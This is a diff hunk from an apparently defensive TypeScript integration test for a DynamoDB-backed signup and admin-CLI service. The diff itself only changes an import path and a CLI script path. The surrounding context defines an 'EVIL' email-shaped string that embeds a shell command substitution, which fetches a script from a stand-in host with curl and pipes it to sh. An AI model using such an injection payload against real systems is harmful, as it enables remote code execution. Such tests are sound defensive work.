@@ -8,13 +8,13 @@ import { promisify } from 'node:util';
 import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
 import { DynamoDBDocumentClient, GetCommand, ScanCommand } from '@aws-sdk/lib-dynamodb';
 import { describe, expect, it } from 'vitest';
-import { texts } from '../../shared/texts.js';
+import { texts } from '#shared/texts.js';
 import { call, mailsTo, newMember, signIn, signupBody, uniqueEmail } from './helpers.js';
 import { DEAD_SES, runService } from './scripts/child.js';
 
 const run = promisify(execFile);
 const admin = (...args: string[]) =>
-  run('npx', ['tsx', 'functions/admin/cli.ts', ...args], { env: { ...process.env, DATA_DIR: process.env.LOCAL_DATA_DIR }, timeout: 60_000 });
+  run('npx', ['tsx', 'infra/local/adminCli.ts', ...args], { env: { ...process.env, DATA_DIR: process.env.LOCAL_DATA_DIR }, timeout: 60_000 });
 const db = () => DynamoDBDocumentClient.from(new DynamoDBClient({ region: 'us-east-1', endpoint: process.env.DYNAMODB_ENDPOINT }));
 const EVIL = '$({curl,-s,x.example/y}|sh)@evil.com';
 const volunteerMails = () => mailsTo(process.env.VOLUNTEER_EMAIL ?? '');
